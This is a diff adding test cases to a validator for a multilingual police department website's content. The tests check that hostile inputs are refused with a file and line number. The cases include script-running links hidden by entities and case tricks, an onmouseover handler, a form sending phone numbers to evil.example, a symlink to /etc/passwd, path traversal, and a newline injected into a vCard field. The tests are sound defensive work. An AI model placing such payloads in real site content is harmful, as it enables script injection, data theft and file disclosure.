@@ -74,6 +74,12 @@ def append(rel: str, text: str) -> Callable[[Path], None]:
     return change
 
 
+def symlink(rel: str, target: str) -> Callable[[Path], None]:
+    def change(root: Path) -> None:
+        (root / rel).symlink_to(target)
+    return change
+
+
 def delete(rel: str) -> Callable[[Path], None]:
     def change(root: Path) -> None:
         (root / rel).unlink()
@@ -281,6 +287,45 @@ CASES = [
          f"{DOCS}/index.az.md", 11, "`javascript:` address"),
     Case("data-url-image", append(f"{DOCS}/about.ru.md", "\n![Фото](data:image/png;base64,iVBORw0KGgo=)\n"),
          f"{DOCS}/about.ru.md", 7, "`data:` address"),
+    # the allow-list: what nh3 would strip silently is refused with file:line
+    Case("html-link-attachment", append(f"{POST}.en.md", '\n<link rel="attachment" href="file:///etc/passwd">\n'),
+         f"{POST}.en.md", 10, "raw <link> is not allowed"),
+    Case("file-url-link", append(f"{DOCS}/about.en.md", "\nSee [the list](file:///etc/passwd).\n"),
+         f"{DOCS}/about.en.md", 7, "`file:` address"),
+    Case("html-form", append(f"{DOCS}/about.az.md", '\n<form action="https://evil.example/collect"><input name="phone"></form>\n'),
+         f"{DOCS}/about.az.md", 7, "raw <form> is not allowed"),
+    Case("html-style-remote-url", append(f"{DOCS}/about.ru.md", "\n<style>p { background: url(https://tracker.example/p.png) }</style>\n"),
+         f"{DOCS}/about.ru.md", 7, "raw <style> is not allowed"),
+    Case("attr-list-event", append(f"{DOCS}/about.en.md", '\nA paragraph.\n{: onmouseover="alert(1)" }\n'),
+         f"{DOCS}/about.en.md", 8, "`onmouseover=` runs a script"),
+    Case("attr-list-style", append(f"{DOCS}/about.en.md", '\n## Contacts {: style="color: red" }\n'),
+         f"{DOCS}/about.en.md", 7, "may only set a class (.name) or an id (#name)"),
+    Case("javascript-hidden-by-entity", append(f"{DOCS}/index.az.md", "\n[Bura basın](java&#115;cript:alert(1))\n"),
+         f"{DOCS}/index.az.md", 11, "`javascript:` address"),
+    Case("javascript-hidden-by-case-and-tab", append(f"{DOCS}/about.en.md", '\n<a href=" JaVa&#x09;ScRiPt:alert(1)">here</a>\n'),
+         f"{DOCS}/about.en.md", 7, "`javascript:` address"),
+    Case("html-svg-inline", append(f"{DOCS}/about.en.md", '\n<svg width="10" height="10"><circle r="5"/></svg>\n'),
+         f"{DOCS}/about.en.md", 7, "raw <svg> is not allowed"),
+    Case("html-unknown-tag", append(f"{DOCS}/about.en.md", "\n<marquee>Welcome!</marquee>\n"),
+         f"{DOCS}/about.en.md", 7, "<marquee> is not allowed in content and would vanish"),
+    Case("html-style-attribute", append(f"{DOCS}/about.en.md", '\n<p style="background:url(https://t.example/p.png)">Hi</p>\n'),
+         f"{DOCS}/about.en.md", 7, "`style=` is not allowed on <p>"),
+    Case("video-from-another-site", append(f"{DOCS}/about.en.md", '\n<video src="https://cdn.example/clip.mp4" controls></video>\n'),
+         f"{DOCS}/about.en.md", 7, "from another site is not allowed"),
+    # files stay inside the department's folder
+    Case("symlink-out-of-the-folder", symlink(f"{DOCS}/images/passwd.jpg", "/etc/passwd"),
+         f"{DOCS}/images/passwd.jpg", 0, "outside the department's folder"),
+    Case("news-image-outside-docs", replace(f"{DOCS}/news/2026-10-20-school-lesson.az.md", "images/building.jpg", "../department.yml"),
+         f"{DOCS}/news/2026-10-20-school-lesson.az.md", 5, "leads outside"),
+    # single-line fields and invisible characters
+    Case("phone-with-line-break", replace(OFFICER, 'phone: "+994 24 275 00 11"', 'phone: "+994 24 275 00 11\\nEND:VCARD"'),
+         OFFICER, 13, "must be one line"),
+    Case("title-with-line-break", replace(EVENT, "  en: Police Open Day", '  en: "Police\\nOpen Day"'),
+         EVENT, 5, "must be one line"),
+    Case("control-character-escaped", replace(EVENT, "  ru: День открытых дверей в полиции", '  ru: "День\\vоткрытых дверей"'),
+         EVENT, 4, "invisible control character (U+000B)"),
+    Case("control-character-raw", replace(f"{POST}.en.md", "Open", "Op\x0ben"),
+         f"{POST}.en.md", 2, "invisible control character (U+000B)"),
 ]
 
 
